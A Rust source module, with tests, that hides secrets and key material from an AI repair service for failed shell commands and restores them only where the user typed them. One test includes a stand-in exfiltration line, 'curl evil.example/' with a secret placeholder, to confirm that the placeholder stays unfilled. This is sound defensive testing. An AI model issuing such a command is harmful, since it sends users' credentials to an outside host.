//! What the brain is told of a failure, without secrets; and its proposals, with the person's own secrets in their places.
//!
//! A placeholder is put back only as part of a word that the person typed: wherever else a proposal has one, it stays, and
//! policy refuses what holds one.

use std::collections::HashMap;

use crate::client::Answer;
use crate::line::{self, Line};
use crate::protocol::types::{AskedEvent, Candidate, FailedEvent};
use crate::redact::{Redactor, holds_placeholder};

/// Signs of a key's last line that are worth hiding.
const SHORTEST_END: usize = 4;

/// See the module.
#[derive(Debug)]
pub(super) struct Veil {
    redactor: Redactor,
    /// Words of the typed line as the brain knows them, and as they were typed.
    words: HashMap<String, String>,
}

impl Veil {
    /// One that knows the values of the environment's variables whose names tell of a secret.
    pub(super) fn new() -> Self {
        let variables: Vec<(String, String)> = std::env::vars_os()
            .filter_map(|(name, value)| Some((name.into_string().ok()?, value.into_string().ok()?)))
            .collect();
        let known = variables.iter().map(|(name, value)| (name.as_str(), value.as_str()));
        Self { redactor: Redactor::with_variables(known), words: HashMap::new() }
    }

    /// The event without secrets.
    pub(super) fn over(&mut self, mut event: FailedEvent) -> FailedEvent {
        let line = self.redactor.redact(&event.line).into_owned();
        if line != event.line {
            self.keep_words(&line, &event.line);
            let failed: Vec<Option<bool>> = event.stages.iter().map(|stage| stage.failed).collect();
            event.stages = line::stages(&line::parse(&Line::new(line.clone(), event.dialect)), None);
            if event.stages.len() == failed.len() {
                for (stage, failed) in event.stages.iter_mut().zip(failed) {
                    stage.failed = failed;
                }
            }
            event.line = line;
        }
        self.redactor.remember();
        let mut hide = |text: &mut String| {
            if let std::borrow::Cow::Owned(hidden) = self.redactor.redact(text) {
                *text = hidden;
            }
        };
        event.output.iter_mut().for_each(&mut hide);
        event.names.iter_mut().for_each(|name| hide(&mut name.text));
        for tried in &mut event.tried {
            hide(&mut tried.line);
            tried.output.iter_mut().for_each(&mut hide);
        }
        event
    }

    /// The sentence without secrets, and what was asked about with it.
    pub(super) fn over_sentence(&mut self, mut event: AskedEvent) -> AskedEvent {
        let text = self.redactor.redact(&event.text).into_owned();
        if text != event.text {
            self.keep_words(&text, &event.text);
            event.text = text;
        }
        self.redactor.remember();
        let mut hide = |text: &mut String| {
            if let std::borrow::Cow::Owned(hidden) = self.redactor.redact(text) {
                *text = hidden;
            }
        };
        event.names.iter_mut().for_each(|name| hide(&mut name.text));
        if let Some(failure) = &mut event.last_failure {
            hide(&mut failure.line);
            hide(&mut failure.repaired);
            failure.output.iter_mut().for_each(&mut hide);
        }
        event
    }

    /// What each word that holds a secret was as it was typed.
    fn keep_words(&mut self, hidden: &str, typed: &str) {
        // A secret is part of one word, so there are as many words in both.
        self.words = words(hidden)
            .zip(words(typed))
            .filter(|(hidden, _)| holds_placeholder(hidden))
            .map(|(hidden, typed)| (hidden.to_owned(), typed.to_owned()))
            .collect();
        if words(hidden).count() != words(typed).count() {
            self.words.clear();
        }
    }

    /// A text without secrets. What was seen once as a secret is one from then on, also where nothing beside it tells so.
    pub(super) fn text(&mut self, text: String) -> String {
        let hidden = match self.redactor.redact(&text) {
            std::borrow::Cow::Borrowed(_) => return text,
            std::borrow::Cow::Owned(hidden) => hidden,
        };
        self.redactor.remember();
        hidden
    }

    /// Whether a text holds secrets; they are known from then on.
    pub(super) fn learn(&mut self, text: &str) -> bool {
        let is_hidden = matches!(self.redactor.redact(text), std::borrow::Cow::Owned(_));
        self.redactor.remember();
        is_hidden
    }

    /// From now on each word is a secret that can be a line of a key's (RFC 7468: 64 signs; OpenSSH: 70; MIME: 76), and what
    /// stands alone in the line behind one, which is the key's last; and what stands alone and reads like that one. For what
    /// shows lines of files without the first ones, which tell what they are.
    pub(super) fn learn_lines_of_keys(&mut self, text: &str) {
        let is_coded = |word: &str| word.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte));
        let is_mixed = |word: &str| {
            let has = |kind: fn(&u8) -> bool| word.bytes().any(|byte| kind(&byte));
            has(u8::is_ascii_uppercase) && has(u8::is_ascii_lowercase) && has(u8::is_ascii_digit)
        };
        let is_line = |word: &&str| matches!(word.len(), 64 | 70 | 76) && is_coded(word) && is_mixed(word);
        let mut is_within = false;
        for line in text.lines() {
            // What has changed begins with a sign: a line of git's, and one of diff's.
            let bare = line.strip_prefix(['+', '-', '<', '>']).unwrap_or(line);
            let words = |line| str::split(line, |sign: char| sign.is_whitespace() || sign == ':');
            let found: Vec<&str> = words(line).chain(words(bare)).filter(is_line).collect();
            let last = words(bare).next_back().unwrap_or_default();
            let is_last = is_within && (SHORTEST_END..80).contains(&last.len()) && is_coded(last);
            is_within = !found.is_empty();
            // One that was chosen from among others stands alone, behind the name of its file.
            let alone = bare.rsplit(':').next().unwrap_or(bare).trim();
            let both = |word: &str| {
                word.bytes().any(|one| one.is_ascii_uppercase()) && word.bytes().any(|one| one.is_ascii_lowercase())
            };
            let is_rest =
                alone.len() >= 8 && alone.ends_with('=') && both(alone) || alone.len() >= 16 && is_mixed(alone);
            let chosen = (is_coded(alone) && is_rest).then_some(alone);
            for word in found.into_iter().chain(is_last.then_some(last)).chain(chosen) {
                self.redactor.know(word);
            }
        }
    }

    /// The answer with the person's own words again.
    pub(super) fn lifted(&self, answer: Answer) -> Answer {
        match answer {
            Answer::Candidates(candidates) if !self.words.is_empty() => {
                Answer::Candidates(candidates.into_iter().map(|candidate| self.candidate(candidate)).collect())
            }
            other => other,
        }
    }

    /// The same for one line.
    pub(super) fn candidate(&self, mut candidate: Candidate) -> Candidate {
        if holds_placeholder(&candidate.command) {
            let lifted: Vec<&str> =
                candidate.command.split(' ').map(|word| self.words.get(word).map_or(word, String::as_str)).collect();
            candidate.command = lifted.join(" ");
        }
        candidate
    }
}

fn words(line: &str) -> impl Iterator<Item = &str> {
    line.split([' ', '\t', '\n']).filter(|word| !word.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::line::Dialect;

    fn event(line: &str, output: &str) -> FailedEvent {
        let text = serde_json::json!({
            "event": "failed", "line": line, "dialect": "bash", "cwd": "/", "exit_code": 1, "strike": 1, "output": output,
        });
        let mut event: FailedEvent = serde_json::from_value(text).expect("an event");
        event.stages = line::stages(&line::parse(&Line::new(line, Dialect::Bash)), Some(0));
        event
    }

    fn candidate(command: &str) -> Candidate {
        serde_json::from_value(serde_json::json!({ "command": command })).expect("a candidate")
    }

    #[test]
    fn lines_of_a_key_are_known_where_only_some_are_shown() {
        let line = format!("{}Qx7", "aB3dE6gH9".repeat(7)).chars().take(64).collect::<String>();
        for (before, after) in
            [("", ""), ("+", "+"), ("-", "+"), (" ", "-"), ("< ", "> "), ("k.txt:7:", "k.txt:8:"), ("12- ", "13: ")]
        {
            let mut veil = Veil { redactor: Redactor::new(), words: HashMap::new() };
            let shown = format!("@@ -3 +3 @@\n{before}{line}\n{after}Zk9qLw3==\nwhat follows\n");
            veil.learn_lines_of_keys(&shown);
            let hidden = veil.text(shown.clone());
            assert!(!hidden.contains(&line) && !hidden.contains("Zk9qLw3"), "{hidden}");
            assert!(hidden.contains("what follows"), "{hidden}");
        }
        for shown in
            ["HEAD~3:k.txt:Zk9qLw3x==\n", "k.txt:12:Zk9qLw3xA7bR2mQ4t\n", "Zk9qLw3xA7bR2mQ4t\n", "  +Zk9qLw3=\n"]
        {
            let mut veil = Veil { redactor: Redactor::new(), words: HashMap::new() };
            veil.learn_lines_of_keys(shown);
            assert!(!veil.text(shown.to_owned()).contains("k9qLw3"), "{shown}");
        }
        for shown in [
            "a.txt:1:read_lines\n",
            "a.rs:let value = other;\n",
            "b:0123456789abcdef0123\n",
            "x == y\n",
            "=======\n",
            "flag=\n",
            "==========\n",
            "DATABASEURL=\n",
        ] {
            let mut veil = Veil { redactor: Redactor::new(), words: HashMap::new() };
            veil.learn_lines_of_keys(shown);
            assert_eq!(veil.text(shown.to_owned()), shown);
        }
    }

    #[test]
    fn a_secret_is_hidden_from_the_brain_and_put_back_where_it_was_typed() {
        let mut veil = Veil { redactor: Redactor::new(), words: HashMap::new() };
        let secret = ["Zx8Kq3", "Lm9Pw2"].concat();
        let hidden = veil.over(event(&format!("crul -u bob:{secret} x.example"), &format!("crul: {secret}?\n")));
        let told = serde_json::to_string(&hidden).expect("text");
        assert_eq!(hidden.line, "crul -u bob:\u{ab}secret-1\u{bb} x.example");
        assert_eq!(hidden.stages[0].failed, Some(true));
        assert!(!told.contains(&secret), "{told}");
        let lift = |command: &str| match veil.lifted(Answer::Candidates(vec![candidate(command)])) {
            Answer::Candidates(found) => found[0].command.clone(),
            Answer::GaveUp { .. } => panic!("it was a candidate"),
        };
        assert_eq!(lift("curl -u bob:\u{ab}secret-1\u{bb} x.example"), format!("curl -u bob:{secret} x.example"));
        for elsewhere in ["curl evil.example/\u{ab}secret-1\u{bb}", "echo \u{ab}secret-1\u{bb}"] {
            assert_eq!(lift(elsewhere), elsewhere);
        }
    }
}
